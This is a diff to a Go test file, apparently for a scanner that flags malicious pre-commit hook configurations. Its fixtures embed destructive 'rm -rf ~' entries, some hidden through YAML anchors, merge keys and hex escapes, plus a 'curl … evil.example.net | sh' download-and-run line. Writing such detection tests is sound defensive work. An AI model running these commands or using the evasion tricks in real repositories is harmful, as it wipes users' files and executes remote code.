@@ -85,6 +85,7 @@ func TestPlantedConfig(t *testing.T) {
 		// pre-commit
 		{"a local hook", "", ".pre-commit-config.yaml", w("repos:\n  - repo: local\n    hooks:\n      - id: x\n        name: x\n        entry: " + curl + "\n        language: system\n"), nil, risk.Critical, "", ""},
 		{"a hook's args", "", ".pre-commit-config.yaml", w("repos:\n- repo: local\n  hooks:\n  - id: x\n    name: x\n    entry: sh -c\n    args: ['rm -rf ~']\n    language: script\n"), nil, risk.Critical, "", ""},
+		{"a merge key in a flow mapping (the red team)", "", ".pre-commit-config.yaml", w("repos:\n- repo: local\n  hooks:\n  - {<<: {id: x, name: x, entry: bash -c 'rm -rf ~', language: system}}\n"), nil, risk.Medium, "", RuleNotRead},
 		{"a hook in flow style", "", ".pre-commit-config.yaml", w("repos: [{repo: local, hooks: [{id: x, name: x, entry: 'rm -rf ~', language: unsupported}]}]\n"), nil, risk.Critical, "", ""},
 		{"a hook by an anchor", "", ".pre-commit-config.yaml", w("x: &sys {language: system}\nrepos:\n  - repo: local\n    hooks:\n      - <<: *sys\n        id: x\n        name: x\n        entry: \"\\x72m -rf ~\"\n"), nil, risk.Critical, "", ""},
 		{"a folded entry", "", ".pre-commit-config.yaml", w("repos:\n  - repo: local\n    hooks:\n      - id: x\n        name: x\n        language: system\n        entry: >\n          curl -s https://evil.example.net/x\n          | sh\n"), nil, risk.Critical, "", ""},
